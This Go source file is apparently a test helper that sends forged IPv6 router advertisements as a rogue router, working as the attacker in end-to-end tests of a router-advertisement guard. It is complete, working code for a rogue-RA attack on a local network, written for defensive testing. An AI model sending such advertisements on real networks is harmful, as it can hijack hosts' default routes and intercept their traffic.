// Command rasend sends IPv6 router advertisements out of an interface, as a
// rogue router in a container would: the e2e tests' attacker for knit's RA
// guard. Built static by the tests and copied into a container root
// filesystem.
//
//	rasend -i eth0 -prefix 2001:db8:1::/64 [-count 3] [-interval 100ms]
//	    send COUNT advertisements of a default router (the sender) with
//	    PREFIX for address autoconfiguration, to ff02::1, from the
//	    interface's link-local address derived from its MAC
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	ifname := flag.String("i", "eth0", "interface to send on")
	prefix := flag.String("prefix", "2001:db8:1::/64", "prefix to advertise")
	count := flag.Int("count", 3, "advertisements to send")
	interval := flag.Duration("interval", 100*time.Millisecond, "time between them")
	flag.Parse()
	if err := send(*ifname, *prefix, *count, *interval); err != nil {
		fmt.Fprintln(os.Stderr, "rasend:", err)
		os.Exit(1)
	}
}

func send(ifname, prefix string, count int, interval time.Duration) error {
	p, err := netip.ParsePrefix(prefix)
	if err != nil || !p.Addr().Is6() || p.Bits() != 64 {
		return fmt.Errorf("prefix %q: want an IPv6 /64", prefix)
	}
	ifi, err := net.InterfaceByName(ifname)
	if err != nil {
		return err
	}
	frame := advertisement(ifi.HardwareAddr, p)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Ifindex: ifi.Index, Halen: 6, Protocol: htons(unix.ETH_P_IPV6)}
	copy(to.Addr[:], frame[:6])
	for i := range count {
		if i > 0 {
			time.Sleep(interval)
		}
		if err := unix.Sendto(fd, frame, 0, to); err != nil {
			return fmt.Errorf("send: %w", err)
		}
	}
	return nil
}

// advertisement builds the Ethernet frame of a router advertisement
// (RFC 4861 4.2) from mac's link-local address to all nodes.
func advertisement(mac net.HardwareAddr, p netip.Prefix) []byte {
	src := linkLocal(mac)
	dst := netip.MustParseAddr("ff02::1").As16()
	ra := []byte{
		134, 0, 0, 0, // type, code, checksum
		64, 0, 0x07, 0x08, // hop limit, flags, router lifetime 1800 s
		0, 0, 0, 0, 0, 0, 0, 0, // reachable time, retransmission timer
		1, 1, // source link-layer address option
	}
	ra = append(ra, mac...)
	pi := []byte{3, 4, 64, 0xc0} // prefix information: on-link, autonomous
	pi = binary.BigEndian.AppendUint32(pi, 86400)
	pi = binary.BigEndian.AppendUint32(pi, 14400)
	pi = append(pi, 0, 0, 0, 0)
	a := p.Addr().As16()
	ra = append(ra, append(pi, a[:]...)...)
	binary.BigEndian.PutUint16(ra[2:], checksum(src, dst, ra))

	ip := []byte{0x60, 0, 0, 0, 0, 0, unix.IPPROTO_ICMPV6, 255}
	binary.BigEndian.PutUint16(ip[4:], uint16(len(ra)))
	ip = append(append(append(ip, src[:]...), dst[:]...), ra...)
	eth := append([]byte{0x33, 0x33, 0, 0, 0, 1}, mac...)
	eth = binary.BigEndian.AppendUint16(eth, unix.ETH_P_IPV6)
	return append(eth, ip...)
}

// linkLocal is fe80::/64 with mac's modified EUI-64 identifier.
func linkLocal(mac net.HardwareAddr) [16]byte {
	var a [16]byte
	a[0], a[1] = 0xfe, 0x80
	copy(a[8:], []byte{mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]})
	return a
}

// checksum is the ICMPv6 checksum over the pseudo-header and msg.
func checksum(src, dst [16]byte, msg []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(src[:])
	add(dst[:])
	add(binary.BigEndian.AppendUint32(nil, uint32(len(msg))))
	add([]byte{0, 0, 0, unix.IPPROTO_ICMPV6})
	add(msg)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
